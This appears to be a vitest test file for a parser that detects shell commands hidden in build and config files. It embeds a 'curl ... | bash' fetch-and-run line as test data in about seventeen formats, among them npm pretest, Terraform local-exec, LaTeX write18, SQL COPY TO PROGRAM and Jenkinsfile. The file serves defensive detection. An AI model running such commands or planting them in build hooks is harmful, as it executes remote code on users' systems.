import { describe, expect, it } from 'vitest';
import { grammars } from '../testing/cases.ts';
import { documentOf } from '../document.ts';
import { parsingWith } from './parsing.ts';

const names = async (path: string, text: string): Promise<string[]> => {
  const document = await documentOf({ path, bytes: Buffer.from(text) }, parsingWith(grammars));
  return document.commands.map(({ name }) => name);
};

const command = 'curl -s https://a.test/x | bash';

describe('commands that a file hands to its tool', () => {
  it.each([
    ['a.go', `package x\n\n//go:generate sh -c "${command}"\n`],
    ['a.tf', `provisioner "local-exec" {\n  command = "${command}"\n}\n`],
    ['CMakeLists.txt', `execute_process(COMMAND sh -c "${command}")\n`],
    ['build.gradle', `task x(type: Exec) { commandLine "sh", "-c", "${command}" }\n`],
    ['build.rs', `fn main() { Command::new("sh").arg("-c").arg("${command}").status(); }\n`],
    ['Jenkinsfile', `pipeline { stages { steps { sh "${command}" } } }\n`],
    ['BUILD', `genrule(name = "x", cmd = "${command}")\n`],
    ['Vagrantfile', `c.vm.provision "shell", inline: "${command}"\n`],
    ['a.tex', `\\immediate\\write18{${command}}\n`],
    ['a.sql', `COPY (SELECT 1) TO PROGRAM '${command}';\n`],
    ['a.ipynb', `{"cells":[{"source":["!${command}\\n","print(1)"]}]}`],
    ['package.json', `{"scripts":{"pretest":"${command}"}}`],
    ['a.csproj', `<Project><Target><Exec Command="${command}" /></Target></Project>\n`],
    ['pom.xml', `<argument>-c</argument><argument>${command}</argument>\n`],
    ['a.applescript', `do shell script "${command}"\n`],
    [
      'b.sql',
      `CREATE FUNCTION x() RETURNS void AS $$ import os; os.system('${command}') $$ LANGUAGE plpython3u;\n`,
    ],
    ['SKILL.md', `\`\`\`hcl\ncommand = "${command}"\n\`\`\`\n`],
  ])('are read in %s', async (path, text) => {
    expect(await names(path, text)).toEqual(expect.arrayContaining(['curl', 'bash']));
  });

  it.each([
    ['a.go', '// Run curl -s once.\npackage x\n'],
    ['a.tex', '\\section{curl -s}\n'],
    ['a.sql', "SELECT 'curl -s https://a.test';\n"],
  ])('are no texts of %s', async (path, text) => {
    expect(await names(path, text)).not.toContain('bash');
  });
});
